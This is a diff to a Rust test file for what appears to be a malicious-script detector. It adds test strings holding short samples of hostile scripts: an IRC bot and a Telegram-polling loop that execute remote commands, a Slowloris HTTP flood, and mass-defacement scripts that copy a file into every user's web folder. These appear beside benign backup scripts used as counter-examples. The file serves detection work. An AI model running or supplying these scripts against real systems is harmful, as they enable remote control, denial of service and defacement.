@@ -29,6 +29,11 @@ fn an_irc_bot_and_a_flooder_are_found() {
                print $s \"NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n\";\nprint $s \"JOIN $chan\\r\\n\";\n\
                while (<$s>) { if (/PRIVMSG $chan :!sh (.*)/) { my @o = `$1`; print $s \"PRIVMSG $chan :$_\" for @o; } }\n";
     assert!(whys(bot).contains(&Why::NetworkBot), "{:?}", whys(bot));
+    // fresh111's Slowloris: requests kept open on many sockets, named for what it is.
+    let slow = "#!/usr/bin/perl\n# Slowloris HTTP DoS\nuse IO::Socket::INET;\n\
+                $sock = new IO::Socket::INET(PeerAddr => $host, PeerPort => 80);\n\
+                while (1) { print $sock \"X-a: b\\r\\n\"; sleep 15; }\n";
+    assert_eq!(whys(slow), [Why::NetworkBot]);
     // fresh111's `server`: a Telegram chat's messages polled and run by bash.
     let chat = "#!/bin/bash\nwhile true; do U=$(curl -s \"https://api.telegram.org/bot$T/getUpdates?offset=-1\")\n\
                 CMD=$(echo \"$U\" | grep -oP '\"text\":\"\\K[^\"]+'); OUT=$(eval \"$CMD\" 2>&1); sleep 2; done\n";
@@ -250,9 +255,20 @@ fn mass_defacers_in_perl_and_the_shell_are_found() {
                   opendir(D, $root) || die;\nforeach $u (readdir(D)) { foreach $i (@indexz) { cp($n, \"$root/$u/public_html/$i\"); } }\n";
     let shell = "#!/bin/bash\necho '[+] your index'\nread index\necho '[+] path to deface'\nread path\n\
                  find $path -name \"index.*\" -exec cp $index {} \\;\n";
-    for src in [perl, copier, shell] {
+    // fresh111's IndoXploit `mass.sh`: every account of `/etc/passwd`, the file copied into
+    // each web folder.
+    let accounts = "#!/bin/bash\necho ' ~~ Mass Deface (root) ~~ '\n\
+                    for u in $(awk -F: '$3 >= 500 {print $1}' /etc/passwd); do\n\
+                    d=\"/home/$u/public_html\"; [ -d \"$d\" ] && /bin/cp \"$FILE\" \"$d\"; done\n";
+    for src in [perl, copier, shell, accounts] {
         assert_eq!(whys(src), [Why::MassDefacer], "{src}");
     }
+    // An administrator's script backing every account's web folder up says nothing of
+    // defacing.
+    let backups = accounts
+        .replace("Mass Deface (root)", "Nightly backups")
+        .replace("/bin/cp \"$FILE\" \"$d\"", "tar czf \"/backup/$u.tgz\" \"$d\"");
+    assert!(whys(&backups).is_empty(), "{:?}", whys(&backups));
     // A backup script copying a site's folder, and a walk that only lists its pages.
     let backup = "#!/bin/sh\nfind /home/me/site -name '*.php' -mtime -1 -exec cp {} /home/me/backup/ \\;\n";
     let lister = "#!/usr/bin/perl\nopendir(D, '.') or die; print grep { /^index\\./ } readdir(D);\n";
